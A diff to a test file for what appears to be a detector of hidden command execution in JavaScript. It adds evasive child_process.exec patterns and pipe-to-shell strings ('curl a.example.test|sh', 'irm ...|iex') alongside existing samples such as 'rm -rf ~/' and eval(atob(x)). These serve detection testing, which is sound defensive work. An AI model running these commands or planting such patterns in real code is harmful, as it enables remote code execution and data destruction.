@@ -48,6 +48,8 @@ def b64(text: str) -> str:
         "(function (r) { r('child_process').exec('CMD') })(require)",
         "const {spawn} = require('child_process'); spawn('sh', ['-c', 'CMD'])",
         "require('child_process').exec.call(null, 'CMD')",
+        "var cp = __toESM(require('child_process')); cp.exec('CMD')",
+        "var cp = __importDefault(require('child_process')); (0, cp.default.exec)('CMD')",
         "const c = 'CM' + `D`; require('child_process').exec(c)",
         "eval(\"require('child_process').exec('CMD')\")",
         "new Function('require', \"require('child_process').exec('CMD')\")(require)",
@@ -127,6 +129,7 @@ def test_what_hides() -> None:
     [
         "// curl https://a.example.test | sh\n/* eval(atob(x)) */ module.exports = 1",
         "console.log('run: curl https://a.example.test | sh'); require('child_process').exec(x)",
+        "const how = w ? 'irm a.example.test|iex' : 'curl a.example.test|sh'; console.log(`run ${how}`); require('child_process').exec(x)",
         "throw new Error('rm -rf ~/'); require('child_process').exec(x)",
         "/x/.exec(y); const re = /child_process/; re.exec('curl https://a.example.test | sh')",
         "function f(eval_) { return eval_(atob(x)) }",
